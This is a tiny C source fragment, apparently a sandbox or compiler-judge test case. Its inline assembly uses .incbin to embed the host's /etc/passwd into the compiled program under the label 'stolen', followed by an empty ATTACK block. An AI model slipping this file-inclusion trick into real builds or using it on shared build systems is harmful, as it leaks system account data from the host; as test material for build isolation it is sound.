/* Assembles what it must not see into the program. */
__asm__(".data\nstolen: .incbin \"/etc/passwd\"\n");

ATTACK
{
}
